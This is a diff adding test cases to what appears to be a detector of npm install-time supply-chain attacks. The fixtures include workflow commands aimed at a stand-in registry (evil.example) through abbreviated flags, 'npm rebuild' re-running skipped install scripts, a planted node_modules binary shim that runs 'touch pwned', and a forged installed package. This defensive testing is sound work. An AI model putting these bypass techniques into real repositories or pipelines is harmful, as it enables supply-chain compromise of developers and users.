@@ -1,6 +1,6 @@
 import { APP } from "./app.ts";
 import type { Attack, AttackClass } from "./attack.ts";
-import { lockWith, manifestWith, WITH_SCRIPT } from "./npm-app.ts";
+import { hashOf, lockWith, manifestWith, WITH_SCRIPT } from "./npm-app.ts";
 
 const LOCK = "package-lock.json";
 const WORKFLOW = ".github/workflows/release.yml";
@@ -134,6 +134,28 @@ export const INSTALL_POLICY: AttackClass = {
       real: "npm 10 and 11 run every script of the lockfile.",
     },
     {
+      name: "hears a command that runs scripts beside one that doesn't",
+      base: { [WORKFLOW]: workflow("- run: npm ci --ignore-scripts"), [LOCK]: EVIL },
+      change: { [WORKFLOW]: workflow("- run: npm ci --ignore-scripts\n      - run: npm rebuild") },
+      expect: "loud",
+      real: "npm 11.19 rebuild ran the script that `npm ci --ignore-scripts` had left.",
+    },
+    {
+      name: "hears a flag by the beginning of its name",
+      base: { ".npmrc": "ignore-scripts=true\n" },
+      change: { [WORKFLOW]: workflow("- run: npm ci --no-ign") },
+      expect: "loud",
+      at: WORKFLOW,
+      real: "npm 11.19 expands --ign to --ignore-scripts, with a warning, and ran the script.",
+    },
+    {
+      name: "hears a registry by a short flag",
+      change: { [WORKFLOW]: workflow("- run: npm ci --reg https://evil.example/") },
+      expect: "loud",
+      at: WORKFLOW,
+      real: "npm 11.19 asked the registry that the flag names.",
+    },
+    {
       name: "hears a registry that a flag names",
       change: { [WORKFLOW]: workflow("- run: npm ci --registry https://evil.example/") },
       expect: "loud",
@@ -250,6 +272,43 @@ export const INSTALL_POLICY: AttackClass = {
       expect: "loud",
       at: "node_modules/.package-lock.json",
       real: "`npm install` of npm 10, 11 and 12 left them there and ran them; `npm ci` takes them away.",
+    },
+    {
+      name: "hears a package that lies in the repository as installed, with the locked hash",
+      change: {
+        "node_modules/left/package.json": JSON.stringify({
+          name: "left",
+          version: "1.0.0",
+          _integrity: hashOf("A"),
+        }),
+      },
+      expect: "loud",
+      at: "node_modules",
+      real: "`npm install` of npm 11.19: up to date, and the package stays as it is. `npm ci` takes it away.",
+    },
+    {
+      name: "hears a command that lies in the repository as installed",
+      change: { "node_modules/.bin/vite": "#!/bin/sh\ntouch pwned\n" },
+      expect: "loud",
+      at: "node_modules",
+      real: "`npm install` of npm 11.19 left it there; `npm run` finds it first.",
+    },
+    {
+      name: "says nothing of packages in the repository that stay, nor of other folders of the name",
+      base: { "node_modules/left/package.json": "{}" },
+      change: { "docs/node_modules/x/package.json": "{}", "README.md": "node_modules/left\n" },
+      expect: "silent",
+      real: "Nothing of it is new to `npm install`.",
+    },
+    {
+      name: "says nothing of a flag whose beginning decides nothing, and of `--no`",
+      change: {
+        [WORKFLOW]: workflow(
+          "- run: npm ci --no-audit --no-fund --prefer-offline\n      - run: npm exec --no vite",
+        ),
+      },
+      expect: "silent",
+      real: "npm 11.19 installs the same.",
     },
     {
       name: "says nothing of settings that decide nothing",
